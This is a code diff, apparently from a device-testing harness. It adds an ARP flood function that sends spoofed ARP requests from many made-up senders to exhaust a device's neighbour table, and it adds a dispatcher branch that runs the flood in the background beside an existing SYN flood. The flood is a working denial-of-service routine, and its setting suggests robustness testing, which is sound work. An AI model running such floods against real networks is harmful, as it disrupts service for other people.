@@ -346,6 +346,28 @@ def syn_flood(cmd):
     return {"sent": count, "seconds": round(time.time() - start, 3)}
 
 
+def arp_flood(cmd):
+    """Reproduction 3: ARP requests for the DUT's address from many spoofed neighbours (made-up MACs), so that a
+    victim that learns every sender fills its neighbour table; rounds re-send them (refreshing what it learned)."""
+    target = cmd.get("target", DUT_IP)
+    first = int(ipaddress.IPv4Address(cmd["first"]))
+    last = int(ipaddress.IPv4Address(cmd["last"]))
+    rounds, pause = cmd.get("rounds", 1), cmd.get("pause_ms", 0) / 1000.0
+    tpa = socket.inet_aton(target)
+    sent = 0
+    start = time.time()
+    for _ in range(rounds):
+        for a in range(first, last + 1):
+            mac = b"\x02\xaa" + struct.pack("!I", a)  # locally administered, one per spoofed sender
+            frame = (b"\xff" * 6 + mac + b"\x08\x06" + b"\x00\x01\x08\x00\x06\x04\x00\x01"
+                     + mac + struct.pack("!I", a) + b"\x00" * 6 + tpa)
+            send_frame(frame)
+            sent += 1
+        if pause > 0:
+            time.sleep(pause)
+    return {"sent": sent, "seconds": round(time.time() - start, 3)}
+
+
 def background(fn, cmd):
     def run():
         try:
@@ -376,6 +398,9 @@ def main():
                 continue
             elif op == "syn_flood":
                 background(syn_flood, cmd)
+                continue
+            elif op == "arp_flood":
+                background(arp_flood, cmd)
                 continue
             elif op == "release_attack":
                 r = release_attack(cmd)
